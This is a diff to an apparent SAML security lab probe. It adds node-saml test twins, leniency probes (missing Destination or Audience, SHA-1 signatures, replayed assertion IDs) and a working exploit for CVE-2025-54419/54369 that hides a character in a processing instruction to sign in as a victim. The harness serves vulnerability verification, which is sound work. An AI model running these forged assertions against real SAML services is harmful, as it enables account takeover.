@@ -60,6 +60,7 @@ NS = {
 IDP = "urn:lab:twin-probe-idp"
 ATTACKER = "mallory@attacker.test"
 VICTIM = "admin@victim.test"
+NEAR_VICTIM = "adminx@victim.test"  # an attacker's own account whose name is the victim's plus one character
 
 # Which exploits each twin is probed with; "vulnerable" is what the advisory says of that version.
 TWINS: dict[str, dict] = {
@@ -67,6 +68,8 @@ TWINS: dict[str, dict] = {
     "pysaml2-5.0.0": {"cves": ["CVE-2020-5390"], "vulnerable": False},
     "pysaml2-6.4.1": {"cves": ["CVE-2021-21238"], "vulnerable": True},
     "pysaml2-6.5.0": {"cves": ["CVE-2021-21238"], "vulnerable": False},
+    "node-saml-5.0.1": {"cves": ["CVE-2025-54419", "CVE-2025-54369"], "vulnerable": True},
+    "node-saml-5.1.0": {"cves": ["CVE-2025-54419", "CVE-2025-54369"], "vulnerable": False},
     "xml-crypto-6.0.0": {"cves": ["CVE-2025-29774"], "vulnerable": True},
     "xml-crypto-6.0.1": {"cves": ["CVE-2025-29774"], "vulnerable": False},
 }
@@ -140,11 +143,11 @@ def build_response(acs: str, irt: str, assertion: etree._Element) -> etree._Elem
     return r
 
 
-def sign_assertion(assertion: etree._Element, key_pem: bytes, cert_pem: bytes) -> None:
+def sign_assertion(assertion: etree._Element, key_pem: bytes, cert_pem: bytes, *, sig_alg=None, digest_alg=None) -> None:
     """Enveloped RSA-SHA256 signature over the Assertion (exc-c14n), placed after its Issuer."""
-    sig = xmlsec.template.create(assertion, xmlsec.Transform.EXCL_C14N, xmlsec.Transform.RSA_SHA256, ns="ds")
+    sig = xmlsec.template.create(assertion, xmlsec.Transform.EXCL_C14N, sig_alg or xmlsec.Transform.RSA_SHA256, ns="ds")
     assertion.insert(1, sig)
-    ref = xmlsec.template.add_reference(sig, xmlsec.Transform.SHA256, uri="#" + assertion.get("ID"))
+    ref = xmlsec.template.add_reference(sig, digest_alg or xmlsec.Transform.SHA256, uri="#" + assertion.get("ID"))
     xmlsec.template.add_transform(ref, xmlsec.Transform.ENVELOPED)
     xmlsec.template.add_transform(ref, xmlsec.Transform.EXCL_C14N)
     xmlsec.template.add_x509_data(xmlsec.template.ensure_key_info(sig))
@@ -238,7 +241,91 @@ def exploit_cve_2025_29774(signed: etree._Element) -> tuple[etree._Element, etre
     return forged, genuine
 
 
+def _drop(a: etree._Element, path: str) -> None:
+    for e in a.findall(path, NS):
+        e.getparent().remove(e)
+
+
+def _set(path: str, attr: str, value: str | None):
+    def f(a: etree._Element) -> None:
+        for e in a.findall(path, NS):
+            if value is None:
+                e.attrib.pop(attr, None)
+            else:
+                e.set(attr, value)
+    return f
+
+
+def _other_audience(a: etree._Element) -> None:
+    ar = etree.SubElement(a.find("saml:Conditions", NS), f"{{{NS['saml']}}}AudienceRestriction")
+    etree.SubElement(ar, f"{{{NS['saml']}}}Audience").text = "https://other-sp.example/metadata"
+
+
+def _pi_in_nameid(a: etree._Element) -> None:
+    n = _nameid(a)
+    local, _, domain = n.text.partition("@")
+    n.text = local
+    pi = etree.ProcessingInstruction("x", "y")
+    pi.tail = "@" + domain
+    n.append(pi)
+
+
+def _pi_swallows_local(a: etree._Element) -> None:
+    """The NameID's local part moved INTO a processing instruction: <NameID><?p local?>@domain</NameID>."""
+    n = _nameid(a)
+    local, _, domain = n.text.partition("@")
+    n.text = None
+    pi = etree.ProcessingInstruction("p", local)
+    pi.tail = "@" + domain
+    n.append(pi)
+
+
+def _skew(seconds: int):
+    def f(a: etree._Element) -> None:
+        a.set("IssueInstant", _ts(seconds))
+        c = a.find("saml:Conditions", NS)
+        c.set("NotBefore", _ts(seconds - 1))
+        a.find("saml:AuthnStatement", NS).set("AuthnInstant", _ts(seconds))
+    return f
+
+
+# Generic leniencies: one change to a golden login each, accepted or refused. Keyed by the samlconf
+# scenario the lab's expected matrix traces to the fact (the probe itself knows nothing of samlconf).
+# (key, scenario, what, assertion change before signing, response change after signing, extra)
+LENIENCIES: list[tuple[str, str, str, object, object, dict]] = [
+    ("no_destination", "DST-02", "Response without Destination", None, lambda r: r.attrib.pop("Destination"), {}),
+    ("empty_destination", "DST-03", "Response with Destination=\"\"", None, lambda r: r.set("Destination", ""), {}),
+    ("no_audience_restriction", "AUD-02", "Assertion without AudienceRestriction",
+     lambda a: _drop(a, "saml:Conditions/saml:AudienceRestriction"), None, {}),
+    ("second_restriction_other_sp", "AUD-04", "a second AudienceRestriction naming only another SP", _other_audience, None, {}),
+    ("wrong_recipient", "DST-05", "bearer Recipient is another URL",
+     _set("saml:Subject/saml:SubjectConfirmation/saml:SubjectConfirmationData", "Recipient", "https://other-sp.example/acs"), None, {}),
+    ("no_bearer_confirmation", "DST-07", "SubjectConfirmation Method sender-vouches (no bearer)",
+     _set("saml:Subject/saml:SubjectConfirmation", "Method", "urn:oasis:names:tc:SAML:2.0:cm:sender-vouches"), None, {}),
+    ("scd_without_notonorafter", "TIME-04", "bearer SubjectConfirmationData without NotOnOrAfter",
+     _set("saml:Subject/saml:SubjectConfirmation/saml:SubjectConfirmationData", "NotOnOrAfter", None), None, {}),
+    ("no_conditions", "TIME-10", "Assertion without Conditions", lambda a: _drop(a, "saml:Conditions"), None, {}),
+    ("no_authnstatement", "MAS-04", "Assertion without AuthnStatement", lambda a: _drop(a, "saml:AuthnStatement"), None, {}),
+    ("doctype", "XML-01", "harmless internal DOCTYPE before the Response", None, None, {"doctype": True}),
+    ("rsa_sha1", "ALG-02", "signed with RSA-SHA1 and a SHA-1 digest", None, None, {"sig": "rsa-sha1"}),
+    ("sha1_digest", "ALG-03", "RSA-SHA256 signature over a SHA-1 digest", None, None, {"sig": "sha1-digest"}),
+    ("pi_in_nameid", "CMT-03", "a processing instruction inside the (signed) NameID", _pi_in_nameid, None, {}),
+    ("pi_after_signing", "CMT-03", "a processing instruction added inside the NameID after signing",
+     None, lambda r: _pi_in_nameid(r.find("saml:Assertion", NS)), {}),
+    ("pi_swallows_local_part", "CMT-03", "the NameID's local part moved into a processing instruction after signing",
+     None, lambda r: _pi_swallows_local(r.find("saml:Assertion", NS)), {}),
+    ("skew_plus_90s", "POS-07", "IssueInstant/NotBefore 90 s in the future (IdP clock ahead)", _skew(90), None, {}),
+    ("unsolicited", "FLOW-02", "no InResponseTo anywhere (IdP-initiated)", None, None, {"unsolicited": True}),
+    ("replayed_assertion_id", "RPL-02", "a fresh Response re-using an Assertion ID already consumed", None, None, {"replay": True}),
+]
+
+
+NODE_SAML_CVES = ("CVE-2025-54419", "CVE-2025-54369")
+_NODE_SAML_SHAPE = ("the attacker's own signed Assertion for adminx@victim.test, the extra 'x' moved after signing "
+                    "into a processing instruction in NameID and Email (admin<?p x?>@victim.test)")
 SHAPES = {
+    "CVE-2025-54419": _NODE_SAML_SHAPE,
+    "CVE-2025-54369": _NODE_SAML_SHAPE + " (same flaw, second advisory: GHSA-m837-g268-mmv7)",
     "CVE-2020-5390": "forged Assertion(victim, own ID) carries the genuine Signature (Reference -> genuine ID); "
                      "genuine Assertion, its Signature moved out, in samlp:Response/samlp:Extensions",
     "CVE-2021-21238": "forged Assertion(victim, own ID): first a schema-invalid wrapper element holding the genuine "
@@ -248,6 +335,27 @@ SHAPES = {
                       "whose Reference digests the forged Assertion; genuine Assertion, its Signature moved out, "
                       "in samlp:Response/samlp:Extensions",
 }
+
+
+def exploit_cve_2025_54419(signed: etree._Element) -> tuple[etree._Element, None]:
+    """@node-saml/node-saml < 5.1.0 verifies the Assertion's signature but then reads the Assertion
+    from the original (unverified) document: xmldom's serialisation parsed again by xml2js
+    (GHSA-4mxg-3p6v-xgq3 / GHSA-m837-g268-mmv7: "loads the assertion from the (unsigned) original
+    response document ... in one attack it is possible to remove any character from the SAML
+    assertion username"; 5.1.0 reads only xml-crypto's signed references). Shape: the attacker's
+    own, genuinely signed assertion for `adminx@victim.test`; after signing, the extra character is
+    moved into a processing instruction in the NameID and the Email value (`admin<?p x?>@victim.test`).
+    xml-crypto's canonicalisation renders a processing instruction's data as text, so the digest
+    still holds; xml2js drops processing instructions, so node-saml reads `admin@victim.test`."""
+    forged = copy.deepcopy(signed)
+    extra = NEAR_VICTIM[len("admin"):len("adminx")]
+    for el in [_nameid(forged), *forged.iterfind(".//saml:AttributeValue", NS)]:
+        head, tail = el.text[:len("admin")], el.text[len("adminx"):]
+        el.text = head
+        pi = etree.ProcessingInstruction("p", extra)
+        pi.tail = tail
+        el.append(pi)
+    return forged, None
 
 
 # --- driving the twin ----------------------------------------------------------------------------
@@ -317,6 +425,11 @@ class Twin:
                                parser=etree.XMLParser(resolve_entities=False, no_network=True))
         return req.get("ID")
 
+    def post_raw(self, client: httpx.Client, acs: str, raw: bytes) -> tuple[int, str | None]:
+        r = client.post(acs, data={"SAMLResponse": base64.b64encode(raw).decode()})
+        who = client.get(self.base + "/whoami")
+        return r.status_code, (who.json().get("email") if who.status_code == 200 else None)
+
     def post(self, client: httpx.Client, acs: str, response: etree._Element) -> tuple[int, str | None, str]:
         b64 = base64.b64encode(etree.tostring(response)).decode()
         r = client.post(acs, data={"SAMLResponse": b64})
@@ -346,6 +459,7 @@ def run(name: str, port: int) -> tuple[dict[str, str], list[str]]:
             c, irt = fresh()
             a = build_assertion(ATTACKER, entity, acs, irt)
             sign_assertion(a, key_pem, cert_pem)
+            last_golden_id = a.get("ID")
             st, ident, cookie = twin.post(c, acs, build_response(acs, irt, a))
             out.append(f"golden: ACS HTTP {st}, whoami -> {ident}")
             facts["golden_login"] = f"works: ACS HTTP {st}, whoami names {ident}" if ident == ATTACKER else f"FAILED: ACS HTTP {st}, whoami {ident}"
@@ -358,18 +472,53 @@ def run(name: str, port: int) -> tuple[dict[str, str], list[str]]:
             out.append(f"tampered NameID: ACS HTTP {st}, set-cookie {'yes' if cookie else 'no'}, whoami -> {ident}")
             facts["refusal"] = (f"HTTP {st} page, {'a' if cookie else 'no'} session cookie, whoami 401 (nobody)"
                                 if ident is None else f"NOT REFUSED: whoami {ident}")
-            # 3. the CVE exploits
+            # 3. generic leniencies (what the fixed twin is expected to fail or pass for other reasons)
+            for key, scen, what, pre, post, extra in LENIENCIES:
+                c, irt = fresh()
+                if extra.get("unsolicited"):
+                    irt_used = ""
+                else:
+                    irt_used = irt
+                a = build_assertion(ATTACKER, entity, acs, irt_used)
+                if extra.get("unsolicited"):
+                    a.find("saml:Subject/saml:SubjectConfirmation/saml:SubjectConfirmationData", NS).attrib.pop("InResponseTo")
+                if extra.get("replay"):
+                    a.set("ID", last_golden_id)
+                if pre:
+                    pre(a)
+                kw = {}
+                if extra.get("sig") == "rsa-sha1":
+                    kw = {"sig_alg": xmlsec.Transform.RSA_SHA1, "digest_alg": xmlsec.Transform.SHA1}
+                elif extra.get("sig") == "sha1-digest":
+                    kw = {"digest_alg": xmlsec.Transform.SHA1}
+                sign_assertion(a, key_pem, cert_pem, **kw)
+                resp = build_response(acs, irt_used, a)
+                if extra.get("unsolicited"):
+                    resp.attrib.pop("InResponseTo")
+                if post:
+                    post(resp)
+                raw = etree.tostring(resp)
+                if extra.get("doctype"):
+                    raw = b'<!DOCTYPE samlp:Response [<!ELEMENT samlp:Response ANY>]>' + raw
+                st, ident = twin.post_raw(c, acs, raw)
+                seen = "accepted" if ident else "refused"
+                out.append(f"leniency {key} ({what}): ACS HTTP {st}, whoami -> {ident}")
+                facts[f"leniency.{key}"] = f"{seen}: {what} (samlconf {scen}); ACS HTTP {st}, whoami {ident}"
+
+            # 4. the CVE exploits
             for cve in spec["cves"]:
                 c, irt = fresh()
-                a = build_assertion(ATTACKER, entity, acs, irt)
+                a = build_assertion(NEAR_VICTIM if cve in NODE_SAML_CVES else ATTACKER, entity, acs, irt)
                 sign_assertion(a, key_pem, cert_pem)
                 exploit = {"CVE-2020-5390": exploit_cve_2020_5390, "CVE-2021-21238": exploit_cve_2021_21238,
-                           "CVE-2025-29774": exploit_cve_2025_29774}[cve]
+                           "CVE-2025-29774": exploit_cve_2025_29774, "CVE-2025-54419": exploit_cve_2025_54419,
+                           "CVE-2025-54369": exploit_cve_2025_54419}[cve]
                 forged, genuine = exploit(a)
                 resp = build_response(acs, irt, forged)
-                ext = etree.Element(f"{{{NS['samlp']}}}Extensions")
-                ext.append(genuine)
-                resp.insert(1, ext)
+                if genuine is not None:
+                    ext = etree.Element(f"{{{NS['samlp']}}}Extensions")
+                    ext.append(genuine)
+                    resp.insert(1, ext)
                 shape = SHAPES[cve]
                 st, ident, cookie = twin.post(c, acs, resp)
                 out.append(f"{cve} exploit ({shape}): ACS HTTP {st}, whoami -> {ident}")
@@ -377,6 +526,8 @@ def run(name: str, port: int) -> tuple[dict[str, str], list[str]]:
                     verdict = "victim signed in (takeover)"
                 elif ident is None:
                     verdict = "refused (nobody signed in)"
+                elif ident in (ATTACKER, NEAR_VICTIM):
+                    verdict = f"no takeover: only the genuinely signed identity {ident} signed in"
                 else:
                     verdict = f"someone else signed in: {ident}"
                 facts[cve] = f"{verdict}: ACS HTTP {st}; shape: {shape}"
